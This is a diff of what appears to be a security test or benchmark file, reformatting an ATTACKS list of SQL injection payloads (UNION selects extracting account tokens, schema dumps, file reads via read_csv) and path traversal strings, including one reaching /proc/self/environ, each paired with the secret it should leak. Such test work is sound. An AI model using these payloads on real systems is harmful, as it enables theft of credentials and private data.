@@ -51,7 +51,11 @@ REQUESTS = {
     ],
     "fast_new": [
         http("POST", "/courses", {"title": "Writer's Workshop; part 1", "description": ARTICLE}),
-        http("POST", "/courses", {"title": "SQL: SELECT * FROM scratch", "level": "expert", "starts": "2024-12-01"}),
+        http(
+            "POST",
+            "/courses",
+            {"title": "SQL: SELECT * FROM scratch", "level": "expert", "starts": "2024-12-01"},
+        ),
         http("POST", "/courses", {"title": "", "level": "genius"}),
         http("POST", "/courses", {"title": PEOPLE[3], "extra": [1, {"a": None}], "description": SNIPPET}),
     ],
@@ -99,7 +103,9 @@ ATTACKS = [
     Attack(
         "SQL, order by",
         "fast_courses",
-        _courses(sort="(CASE WHEN (SELECT substr(token, 1, 5) FROM accounts) = 'dean-' THEN -courses.id ELSE 0 END)"),
+        _courses(
+            sort="(CASE WHEN (SELECT substr(token, 1, 5) FROM accounts) = 'dean-' THEN -courses.id ELSE 0 END)"
+        ),
         '"[{\\"title\\":\\"\\u65e5',
     ),
     Attack("SQL, number", "fast_lessons", _lessons("0%20UNION%20SELECT%20token%20FROM%20accounts--"), TOKEN),
@@ -124,11 +130,22 @@ ATTACKS = [
     Attack(
         "SQL, union",
         "fast_stats",
-        _stats(level="' or 0 group by 1 union select group_concat(sql||(select token from accounts)),'7' from sqlite_master /*"),
+        _stats(
+            level="' or 0 group by 1 union select group_concat(sql||(select token from accounts)),'7' from sqlite_master /*"
+        ),
         TOKEN,
     ),
-    Attack("SQL, order by", "flask_members", _members(order_by="(CASE WHEN (SELECT count(*) FROM members WHERE secret = 'pin-8861') THEN -id END)"), '"[{\\"id\\":3'),
-    Attack("SQL, number", "flask_members", _members("/members/0 union select max(secret), 1 from members"), PIN),
+    Attack(
+        "SQL, order by",
+        "flask_members",
+        _members(
+            order_by="(CASE WHEN (SELECT count(*) FROM members WHERE secret = 'pin-8861') THEN -id END)"
+        ),
+        '"[{\\"id\\":3',
+    ),
+    Attack(
+        "SQL, number", "flask_members", _members("/members/0 union select max(secret), 1 from members"), PIN
+    ),
     Attack(
         "SQL, number",
         "flask_members",
@@ -138,7 +155,9 @@ ATTACKS = [
     Attack(
         "SQL, number",
         "flask_members",
-        _members("/members/-1%20union%20select%20*%20from%20(select%20hex(secret)from%20members%20limit%201)join(select%202)"),
+        _members(
+            "/members/-1%20union%20select%20*%20from%20(select%20hex(secret)from%20members%20limit%201)join(select%202)"
+        ),
         "70696E2D38383631",
     ),
     Attack(
@@ -150,14 +169,20 @@ ATTACKS = [
     Attack(
         "SQL, union",
         "flask_enquiries",
-        form("/enquiries", name="nobody", town="' union select substr(secret, 5) + 0 from members where id = 1 order by 1 desc--"),
+        form(
+            "/enquiries",
+            name="nobody",
+            town="' union select substr(secret, 5) + 0 from members where id = 1 order by 1 desc--",
+        ),
         '\\"rows\\":8861',
     ),
     Attack("path, dots", "flask_documents", _document("../staff.txt"), CODE),
     Attack("path, dots", "flask_documents", _document("..%2Fstaff.txt"), CODE),
     Attack("path, dots", "flask_documents", _document("../../academy-documents/public/../staff.txt"), CODE),
     Attack("path, dots", "flask_documents", _document("%2e%2e/public/./..//staff.txt"), CODE),
-    Attack("path, dots", "flask_documents", _document("../../..%2Fproc%2Fself%2Fenviron"), "not-a-real-token"),
+    Attack(
+        "path, dots", "flask_documents", _document("../../..%2Fproc%2Fself%2Fenviron"), "not-a-real-token"
+    ),
     Attack(
         "SQL, column",
         "grades",
@@ -173,7 +198,11 @@ ATTACKS = [
     Attack(
         "SQL, column",
         "grades",
-        _grades(dimension="subject", measure="1, 2) AS value FROM grades WHERE false UNION ALL SELECT note, len(note) FROM private_notes --", filters={}),
+        _grades(
+            dimension="subject",
+            measure="1, 2) AS value FROM grades WHERE false UNION ALL SELECT note, len(note) FROM private_notes --",
+            filters={},
+        ),
         NOTE,
     ),
     Attack(
@@ -191,7 +220,11 @@ ATTACKS = [
     Attack(
         "SQL, file",
         "grades_of",
-        agent("grades_of", pupil="x", subject="' union all select column0, 1 from read_csv('/tmp/academy-documents/*.txt', header=false, sep='\x01') --"),
+        agent(
+            "grades_of",
+            pupil="x",
+            subject="' union all select column0, 1 from read_csv('/tmp/academy-documents/*.txt', header=false, sep='\x01') --",
+        ),
         CODE,
     ),
 ]
